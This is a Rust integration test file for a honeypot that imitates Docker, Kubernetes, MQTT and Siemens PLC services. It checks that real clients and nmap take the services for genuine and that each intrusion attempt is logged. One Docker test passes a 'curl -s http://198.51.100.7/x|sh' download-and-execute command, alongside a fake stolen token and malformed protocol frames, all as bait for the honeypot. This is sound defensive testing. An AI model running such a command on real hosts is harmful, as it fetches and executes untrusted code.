//! The IoT, container and ICS services (`docker_api`, `k8s`, `mqtt`,
//! `conpot`) driven by their real clients inside a network namespace the
//! test creates: the `docker` CLI, `curl` and `kubectl`, Mosquitto's
//! `mosquitto_pub`/`mosquitto_sub` and curl's `mqtt://`, Python's
//! `pymodbus`; then `nmap -sV` (with `modbus-discover`) naming each, and
//! a real Mosquitto broker from Debian beside the decky to compare what
//! nmap says about both.

mod native_support;

use std::time::Duration;

use base64::Engine as _;
use native_support::{is, sd, NsFleet};

const DECKY: &str = "iot-01";
const IP: &str = "127.0.0.1";

fn b64(s: &str) -> String {
    base64::engine::general_purpose::STANDARD.encode(s)
}

fn text(out: &std::process::Output) -> (String, String) {
    (String::from_utf8_lossy(&out.stdout).into_owned(), String::from_utf8_lossy(&out.stderr).into_owned())
}

/// One decky serving the four services, Debian 12's packages, a password
/// policy that only knows `sensor`/`s3nsor`.
async fn fleet() -> NsFleet {
    let fleet = NsFleet::start("iot", &[(DECKY, IP)], |o| {
        o.personas.insert(
            DECKY.into(),
            serde_json::json!({
                "release": "debian-12",
                "auth": { "accept_after": [0, 0], "credentials": [["sensor", "s3nsor"]] },
            }),
        );
    })
    .await;
    fleet.deploy(DECKY, &["docker_api", "k8s", "mqtt", "conpot"]).await;
    fleet
}

fn has_command(l: &decnet::events::rfc5424::SyslogLine, app: &str, needle: &str) -> bool {
    is(l, app, "command") && sd(l, "command").is_some_and(|c| c.contains(needle))
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn iot_services_answer_their_real_clients_and_record_what_they_reveal() {
    let fleet = fleet().await;
    let docker_host = format!("tcp://{IP}:2375");
    let home = tempfile::tempdir().unwrap();
    let home = home.path().to_str().unwrap().to_string();

    // --- docker: version and info from the persona, a run recorded ---
    let docker = |args: Vec<String>| {
        let mut c = fleet.ns.command("docker");
        c.env("DOCKER_CONFIG", &home).env("HOME", &home).arg("-H").arg(&docker_host).args(args);
        c.stdin(std::process::Stdio::null());
        async move { tokio::time::timeout(Duration::from_secs(60), c.output()).await.unwrap().unwrap() }
    };
    let out = docker(vec![
        "version".into(),
        "--format".into(),
        "{{.Server.Version}} {{.Server.APIVersion}} {{.Server.Os}}".into(),
    ])
    .await;
    let (stdout, stderr) = text(&out);
    assert_eq!(stdout.trim(), "20.10.24+dfsg1 1.41 linux", "{stderr}");
    let out = docker(vec![
        "info".into(),
        "--format".into(),
        "{{.Name}}|{{.OperatingSystem}}|{{.ServerVersion}}|{{.Driver}}".into(),
    ])
    .await;
    let (stdout, stderr) = text(&out);
    assert_eq!(stdout.trim(), format!("{DECKY}|Debian GNU/Linux 12 (bookworm)|20.10.24+dfsg1|overlay2"), "{stderr}");
    let out = docker(vec![
        "run".into(),
        "--rm".into(),
        "alpine".into(),
        "sh".into(),
        "-c".into(),
        "curl -s http://198.51.100.7/x|sh".into(),
    ])
    .await;
    let (_, stderr) = text(&out);
    assert!(!out.status.success());
    // What the CLI says on a host that cannot reach the registry.
    assert!(stderr.contains("Unable to find image 'alpine:latest' locally"), "{stderr}");
    assert!(stderr.contains("lookup registry-1.docker.io on"), "{stderr}");
    let create = fleet.receiver.wait_for("docker create", |l| has_command(l, "docker_api", "containers/create")).await;
    let create = sd(&create, "command").unwrap().to_string();
    assert!(create.contains("\"Image\":\"alpine\"") && create.contains("curl -s http://198.51.100.7/x|sh"), "{create}");
    fleet
        .receiver
        .wait_for("docker pull", |l| has_command(l, "docker_api", "images/create docker.io/library/alpine:latest"))
        .await;
    fleet
        .receiver
        .wait_for("docker request", |l| is(l, "docker_api", "request") && sd(l, "path") == Some("/v1.41/info"))
        .await;

    // --- k8s: anonymous 403, bearer 401 and recorded, kubectl's view ---
    let out = fleet
        .ns
        .run(
            30,
            "curl",
            &["-ksS", "-w", "\n%{http_code}", &format!("https://{IP}:6443/api/v1/namespaces/kube-system/secrets")],
        )
        .await;
    let (stdout, stderr) = text(&out);
    assert!(stdout.ends_with("\n403"), "{stdout}{stderr}");
    assert!(
        stdout.contains("\"message\": \"secrets is forbidden: User \\\"system:anonymous\\\" cannot list resource \\\"secrets\\\" in API group \\\"\\\" in the namespace \\\"kube-system\\\"\""),
        "{stdout}"
    );
    let out = fleet
        .ns
        .run(
            30,
            "curl",
            &[
                "-ksS",
                "-w",
                "\n%{http_code}",
                "-H",
                "Authorization: Bearer eyJhbGciOi.stolen.token",
                &format!("https://{IP}:6443/api/v1/pods"),
            ],
        )
        .await;
    let (stdout, _) = text(&out);
    assert!(stdout.ends_with("\n401") && stdout.contains("\"reason\": \"Unauthorized\""), "{stdout}");
    let login = fleet.receiver.wait_for("k8s token", |l| is(l, "k8s", "login_attempt")).await;
    assert_eq!(sd(&login, "username"), Some("bearer"));
    assert_eq!(sd(&login, "secret_b64"), Some(b64("eyJhbGciOi.stolen.token").as_str()));
    // A kubeconfig naming the server and a user with Basic credentials
    // (without any, kubectl asks for a user name on stdin); the server
    // records them and, having no basic authenticator, goes on anonymous.
    let kubeconfig = format!("{home}/kubeconfig");
    std::fs::write(
        &kubeconfig,
        format!(
            "apiVersion: v1\nkind: Config\nclusters:\n- name: decky\n  cluster:\n    server: https://{IP}:6443\n    \
insecure-skip-tls-verify: true\nusers:\n- name: anonymous\n  user:\n    username: admin\n    password: kube-admin-pw\n- name: bearer\n  user:\n    token: kubectl-token-1\ncontexts:\n- name: decky\n  context:\n    \
cluster: decky\n    user: anonymous\ncurrent-context: decky\n"
        ),
    )
    .unwrap();
    let kubectl = |args: &[&str]| {
        let mut c = fleet.ns.command("kubectl");
        c.env("KUBECONFIG", &kubeconfig).env("HOME", &home);
        c.args(args).stdin(std::process::Stdio::null());
        async move { tokio::time::timeout(Duration::from_secs(60), c.output()).await.unwrap().unwrap() }
    };
    let out = kubectl(&["version", "-o", "json"]).await;
    let (stdout, stderr) = text(&out);
    let v: serde_json::Value = serde_json::from_str(&stdout).unwrap_or_else(|e| panic!("{e}: {stdout}{stderr}"));
    assert_eq!(v["serverVersion"]["gitVersion"], "v1.28.2", "{stdout}");
    // Discovery is forbidden to anonymous: kubectl says only this, as
    // against a real cluster.
    let out = kubectl(&["get", "pods", "-n", "kube-system"]).await;
    let (stdout, stderr) = text(&out);
    assert!(!out.status.success());
    assert!(stderr.contains("Error from server (Forbidden)"), "{stdout}{stderr}");
    // A raw request shows the authorizer's message.
    let out = kubectl(&["get", "--raw", "/api/v1/namespaces/kube-system/pods"]).await;
    let (stdout, stderr) = text(&out);
    assert!(
        stderr.contains("pods is forbidden: User \"system:anonymous\" cannot list resource \"pods\" in API group \"\" in the namespace \"kube-system\""),
        "{stdout}{stderr}"
    );
    let basic = fleet
        .receiver
        .wait_for("kubectl basic", |l| is(l, "k8s", "login_attempt") && sd(l, "username") == Some("admin"))
        .await;
    assert_eq!(sd(&basic, "secret_b64"), Some(b64("kube-admin-pw").as_str()));
    let out = kubectl(&["--user=bearer", "get", "nodes"]).await;
    let (_, stderr) = text(&out);
    assert!(stderr.contains("error: You must be logged in to the server"), "{stderr}");
    fleet
        .receiver
        .wait_for("kubectl token", |l| {
            is(l, "k8s", "login_attempt") && sd(l, "secret_b64") == Some(&b64("kubectl-token-1"))
        })
        .await;
    fleet
        .receiver
        .wait_for("kubectl request", |l| {
            is(l, "k8s", "request") && sd(l, "user_agent").is_some_and(|u| u.starts_with("kubectl/"))
        })
        .await;

    // --- mqtt: credentials per the policy, topics and payloads ---
    let pub_ = |user: &str, password: &str, topic: &str, msg: &str| {
        let args: Vec<String> = ["-h", IP, "-u", user, "-P", password, "-t", topic, "-m", msg, "-q", "1"]
            .iter()
            .map(|s| s.to_string())
            .collect();
        let mut c = fleet.ns.command("mosquitto_pub");
        c.args(args).stdin(std::process::Stdio::null());
        async move { tokio::time::timeout(Duration::from_secs(30), c.output()).await.unwrap().unwrap() }
    };
    let out = pub_("admin", "admin123", "plant/valve", "open").await;
    let (_, stderr) = text(&out);
    assert!(!out.status.success());
    assert!(stderr.contains("not authorised"), "{stderr}");
    let out = pub_("sensor", "s3nsor", "plant/valve", "open").await;
    assert!(out.status.success(), "{:?}", text(&out));
    let refused = fleet
        .receiver
        .wait_for("mqtt refused", |l| is(l, "mqtt", "login_attempt") && sd(l, "username") == Some("admin"))
        .await;
    assert_eq!((sd(&refused, "secret_b64"), sd(&refused, "result")), (Some(b64("admin123").as_str()), Some("refused")));
    let accepted = fleet
        .receiver
        .wait_for("mqtt accepted", |l| is(l, "mqtt", "login_attempt") && sd(l, "username") == Some("sensor"))
        .await;
    assert_eq!(
        (sd(&accepted, "secret_b64"), sd(&accepted, "result")),
        (Some(b64("s3nsor").as_str()), Some("accepted"))
    );
    fleet.receiver.wait_for("mqtt publish", |l| has_command(l, "mqtt", "PUBLISH plant/valve open")).await;
    // A subscriber (MQTT 5) gets the broker's retained version topic.
    let out = fleet
        .ns
        .run(30, "mosquitto_sub", &["-h", IP, "-V", "mqttv5", "-t", "$SYS/broker/version", "-C", "1", "-W", "10"])
        .await;
    let (stdout, stderr) = text(&out);
    assert_eq!(stdout.trim(), "mosquitto version 2.0.11", "{stderr}");
    fleet.receiver.wait_for("mqtt subscribe", |l| has_command(l, "mqtt", "SUBSCRIBE $SYS/broker/version")).await;
    let out = fleet.ns.run(30, "curl", &["-sS", "-d", "21.5", &format!("mqtt://{IP}/plant/temp")]).await;
    assert!(out.status.success(), "{:?}", text(&out));
    fleet.receiver.wait_for("curl publish", |l| has_command(l, "mqtt", "PUBLISH plant/temp 21.5")).await;

    // --- conpot: pymodbus reads, writes and identifies ---
    let script = format!(
        r#"
import json
from pymodbus.client import ModbusTcpClient
c = ModbusTcpClient("{IP}", port=502, timeout=5)
assert c.connect()
r = c.read_holding_registers(0, count=4, device_id=1)
w = c.write_register(5, 1234, device_id=1)
back = c.read_holding_registers(5, count=1, device_id=1)
coils = c.write_coils(10, [True, False, True], device_id=1)
bad = c.read_holding_registers(9999, count=5, device_id=1)
info = c.read_device_information(read_code=1, object_id=0, device_id=1)
print(json.dumps({{
  "regs": len(r.registers), "back": back.registers[0], "coils_error": coils.isError(),
  "bad_exception": bad.exception_code,
  "info": {{str(k): v.decode() for k, v in info.information.items()}},
}}))
c.close()
"#
    );
    let out = fleet.ns.run(60, "python3", &["-c", &script]).await;
    let (stdout, stderr) = text(&out);
    let got: serde_json::Value =
        serde_json::from_str(stdout.trim()).unwrap_or_else(|e| panic!("{e}: {stdout}{stderr}"));
    assert_eq!(got["regs"], 4);
    assert_eq!(got["back"], 1234, "a write reads back in its session");
    assert_eq!(got["coils_error"], false);
    assert_eq!(got["bad_exception"], 2, "past the table: illegal data address");
    // The same CPU the S7comm side names (one device, two protocols).
    assert_eq!(got["info"]["0"], "Siemens");
    assert_eq!(got["info"]["1"], "6ES7 315-2EH14-0AB0");
    assert_eq!(got["info"]["2"], "V3.2.6");
    fleet
        .receiver
        .wait_for("modbus write", |l| has_command(l, "conpot", "write_single_register unit=1 address=5 value=1234"))
        .await;
    fleet
        .receiver
        .wait_for("modbus coils", |l| has_command(l, "conpot", "write_multiple_coils unit=1 address=10 values=[1,0,1]"))
        .await;

    // --- nmap -sV: Docker named with its version, MQTT as the real
    // broker is, Modbus with modbus-discover's device identification ---
    let real = tempfile::tempdir().unwrap();
    let conf = real.path().join("mosquitto.conf");
    std::fs::write(&conf, "listener 1883 127.0.0.9\nallow_anonymous true\n").unwrap();
    let _ = fleet.ns.run(10, "ip", &["addr", "add", "127.0.0.9/8", "dev", "lo"]).await;
    let mut broker = fleet.ns.command("mosquitto");
    broker.arg("-c").arg(&conf).stdout(std::process::Stdio::null()).stderr(std::process::Stdio::null());
    let _broker = broker.spawn().expect("mosquitto from Debian's package");
    let out = fleet
        .ns
        .run(
            300,
            "nmap",
            &["-sV", "-Pn", "-n", "-p", "502,1883,2375,6443", "--script", "modbus-discover", IP, "127.0.0.9"],
        )
        .await;
    let (report, _) = text(&out);
    let port_line = |host: &str, port: u16| -> String {
        let section = report.split("Nmap scan report for ").find(|s| s.starts_with(host)).unwrap_or("");
        section
            .lines()
            .find(|l| l.starts_with(&format!("{port}/")))
            .unwrap_or_else(|| panic!("{host}:{port}\n{report}"))
            .to_string()
    };
    let docker_line = port_line(IP, 2375);
    assert!(docker_line.contains("Docker") && docker_line.contains("20.10.24+dfsg1"), "{docker_line}\n{report}");
    let squash = |l: String| l.split_whitespace().skip(1).collect::<Vec<_>>().join(" ");
    assert_eq!(
        squash(port_line(IP, 1883)),
        squash(port_line("127.0.0.9", 1883)),
        "the decky's MQTT as nmap sees a real mosquitto\n{report}"
    );
    // nmap's mqtt-subscribe (a version script) reads the version topic.
    assert!(port_line(IP, 1883).contains("mosquitto version 2.0.11"), "{report}");
    assert!(port_line(IP, 502).contains("modbus"), "{report}");
    assert!(report.contains("Siemens 6ES7 315-2EH14-0AB0"), "modbus-discover's device identification\n{report}");
    // nmap has no kube-apiserver signature: TLS, then an unrecognised
    // HTTP service, as for a real API server.
    assert!(port_line(IP, 6443).contains("open  ssl/"), "{report}");
    // Whether nmap prints a fingerprint of the HTTP answers behind the TLS
    // varies from run to run (seen: Audit-Id from a GET, Go's 400, none at
    // all), so only the TLS port is asserted here; what the API server
    // answers is asserted above through curl and kubectl.
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn hostile_frames_end_only_their_own_session() {
    let fleet = NsFleet::start("iotbad", &[(DECKY, IP)], |_| {}).await;
    fleet.deploy(DECKY, &["docker_api", "mqtt", "conpot", "k8s"]).await;
    let path = fleet.ns.path();
    // Inside the namespace, from the test's own socket code.
    let exchange = |port: u16, send: Vec<u8>| {
        let path = path.clone();
        async move {
            tokio::task::spawn_blocking(move || {
                decnet::decky::netns::run_in(Some(&path), move || {
                    use std::io::{Read, Write};
                    let mut s = std::net::TcpStream::connect((IP, port))?;
                    s.set_read_timeout(Some(Duration::from_secs(5)))?;
                    s.write_all(&send)?;
                    let mut got = Vec::new();
                    let _ = s.read_to_end(&mut got);
                    Ok(got)
                })
            })
            .await
            .unwrap()
            .unwrap()
        }
    };
    // MQTT: a remaining length of 256 MiB is refused before it is read.
    let got = exchange(1883, vec![0x10, 0xff, 0xff, 0xff, 0x7f]).await;
    assert!(got.is_empty(), "{got:?}");
    fleet
        .receiver
        .wait_for("oversize mqtt", |l| {
            is(l, "mqtt", "disconnect") && sd(l, "reason").is_some_and(|r| r.contains("over the 65536-byte limit"))
        })
        .await;
    // MQTT: a protocol level the broker does not speak: CONNACK 1, closed.
    let got = exchange(1883, vec![0x10, 0x0d, 0, 4, b'M', b'Q', b'T', b'T', 6, 2, 0, 30, 0, 1, b'x']).await;
    assert_eq!(got, [0x20, 2, 0, 1]);
    // MQTT: a first packet that is not CONNECT.
    let got = exchange(1883, vec![0x30, 0x03, 0x00, 0x01, b'a']).await;
    assert!(got.is_empty(), "{got:?}");
    // Modbus: nmap's HTTP probe gets the exception real devices send.
    let got = exchange(502, b"GET / HTTP/1.0\r\n\r\n".to_vec()).await;
    assert_eq!(got, b"GET \x00\x03H\xd4\x01");
    // S7comm: what is not a TPKT, or a TPKT over the TPDU size, ends the
    // session unanswered and says why; a connection request still gets
    // its confirm afterwards.
    let got = exchange(102, b"GET / HTTP/1.0\r\n\r\n".to_vec()).await;
    assert!(got.is_empty(), "{got:?}");
    fleet
        .receiver
        .wait_for("not tpkt", |l| {
            is(l, "conpot", "disconnect") && sd(l, "reason").is_some_and(|r| r.contains("not a TPKT frame (version 71"))
        })
        .await;
    let got = exchange(102, vec![3, 0, 0xff, 0xff, 0x02, 0xf0, 0x80]).await;
    assert!(got.is_empty(), "{got:?}");
    fleet
        .receiver
        .wait_for("tpkt too long", |l| {
            is(l, "conpot", "disconnect") && sd(l, "reason").is_some_and(|r| r.contains("length 65535"))
        })
        .await;
    // Then a disconnect request, which the CPU closes on.
    let mut cr_dr = vec![3, 0, 0, 22, 17, 0xe0, 0, 0, 0, 1, 0, 0xc1, 2, 1, 0, 0xc2, 2, 1, 2, 0xc0, 1, 10];
    cr_dr.extend([3, 0, 0, 11, 6, 0x80, 0, 1, 0, 1, 0]);
    let got = exchange(102, cr_dr).await;
    assert_eq!(got.len(), 22, "only the confirm: {got:?}");
    assert_eq!(got.get(5), Some(&0xd0), "connection confirm: {got:?}");
    // Modbus: a frame cut short ends the session, nothing answered.
    let got = exchange(502, vec![0, 1, 0, 0, 0, 6, 1, 3, 0]).await;
    assert!(got.is_empty(), "{got:?}");
    // Docker: a body over the bound is refused, not read.
    let got =
        exchange(2375, b"POST /containers/create HTTP/1.1\r\nHost: x\r\nContent-Length: 10000000\r\n\r\n{".to_vec())
            .await;
    let got = String::from_utf8_lossy(&got);
    assert!(got.starts_with("HTTP/1.1 413 ") && got.contains("Connection: close"), "{got}");
    // k8s: the same bound behind TLS, with the API server's Status.
    let big = "x".repeat(70 * 1024);
    let out = fleet
        .ns
        .run(
            30,
            "curl",
            &[
                "-ksS",
                "-w",
                "\n%{http_code}",
                "-X",
                "POST",
                "--data-binary",
                &big,
                &format!("https://{IP}:6443/api/v1/namespaces/default/pods"),
            ],
        )
        .await;
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(stdout.ends_with("\n413") && stdout.contains("RequestEntityTooLarge"), "{stdout}");
    // A garbage request line: Go's 400.
    let got = exchange(2375, b"\x16\x03\x01 garbage\r\n\r\n".to_vec()).await;
    assert!(String::from_utf8_lossy(&got).starts_with("HTTP/1.1 400 Bad Request"), "{got:?}");
    // Every service still answers afterwards.
    let got = exchange(2375, b"GET /_ping HTTP/1.0\r\n\r\n".to_vec()).await;
    assert!(String::from_utf8_lossy(&got).ends_with("\r\n\r\nOK"), "{got:?}");
    let got = exchange(
        1883,
        vec![0x10, 0x10, 0, 4, b'M', b'Q', b'T', b'T', 4, 2, 0, 30, 0, 4, b'n', b'm', b'a', b'p', 0xe0, 0],
    )
    .await;
    assert_eq!(got, [0x20, 2, 0, 0]);
}

/// The conpot PLC's S7comm side on 102, judged by nmap's s7-info (what
/// Shodan-style scanners print) and by python-snap7's client, with every
/// request recorded under the `conpot` service.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn s7comm_identifies_the_plc_to_nmap_and_snap7_and_records_each_request() {
    let fleet = NsFleet::start("iots7", &[(DECKY, IP)], |_| {}).await;
    fleet.deploy(DECKY, &["conpot"]).await;
    let listening = fleet.driver.listening("fleet", DECKY).await;
    assert!(listening.iter().any(|(s, at)| s == "conpot" && at.port() == 502), "{listening:?}");

    let out = fleet.ns.run(120, "nmap", &["-sV", "-Pn", "-n", "-p102", "--script", "s7-info", IP]).await;
    let (report, _) = text(&out);
    // The persona's facts (they depend on the decky's name only).
    let plc = decnet::decky::services::s7comm::Identity::of(&decnet::decky::Persona::derive(DECKY, None, None, 0));
    let plant = format!("Plant Identification: {}", plc.plant);
    let serial_line = format!("Serial Number: {}", plc.serial);
    for want in [
        "102/tcp open  iso-tsap Siemens S7 PLC",
        "Module: 6ES7 315-2EH14-0AB0",
        "Basic Hardware: 6ES7 315-2EH14-0AB0",
        "Version: 3.2.6",
        "System Name: IOT-01",
        "Module Type: CPU 315-2 PN/DP",
        serial_line.as_str(),
        plant.as_str(),
        "Copyright: Original Siemens Equipment",
    ] {
        assert!(report.contains(want), "s7-info does not print {want:?}\n{report}");
    }

    let script = format!(
        r#"
import json, snap7
c = snap7.client.Client()
c.connect("{IP}", 0, 2)
info = c.get_cpu_info()
try:
    c.db_read(1, 0, 4)
    db = "read"
except Exception as e:
    db = type(e).__name__
print(json.dumps({{
  "connected": c.get_connected(), "pdu": c.get_pdu_length(),
  "module_type": info.ModuleTypeName.decode(), "serial": info.SerialNumber.decode(),
  "as_name": info.ASName.decode(), "module": info.ModuleName.decode(),
  "copyright": info.Copyright.decode(), "db": db,
}}))
c.disconnect()
"#
    );
    let out = fleet.ns.run(60, "python3", &["-c", &script]).await;
    let (stdout, stderr) = text(&out);
    let got: serde_json::Value =
        serde_json::from_str(stdout.trim()).unwrap_or_else(|e| panic!("{e}: {stdout}{stderr}"));
    assert_eq!(got["connected"], true);
    assert_eq!(got["pdu"], 240, "the CPU's PDU size");
    assert_eq!(got["module_type"], "CPU 315-2 PN/DP");
    assert_eq!(got["module"], "CPU 315-2 PN/DP");
    assert_eq!(got["as_name"], "IOT-01");
    assert_eq!(got["copyright"], "Original Siemens Equipment");
    assert_eq!(got["serial"], plc.serial.as_str());
    assert_ne!(got["db"], "read", "a DB the program lacks is an error");

    let has = |needle: &'static str| move |l: &decnet::events::rfc5424::SyslogLine| has_command(l, "conpot", needle);
    fleet.receiver.wait_for("cotp connect", has("cotp_connect calling_tsap=0100 called_tsap=0102")).await;
    fleet.receiver.wait_for("setup", has("setup_communication pdu=480")).await;
    fleet.receiver.wait_for("szl 0x0011", has("read_szl id=0x0011 index=0x0001")).await;
    fleet.receiver.wait_for("szl 0x001c", has("read_szl id=0x001c index=0x0000")).await;
    fleet.receiver.wait_for("db read", has("read_var DB1.0.0 size=2 count=4")).await;
}
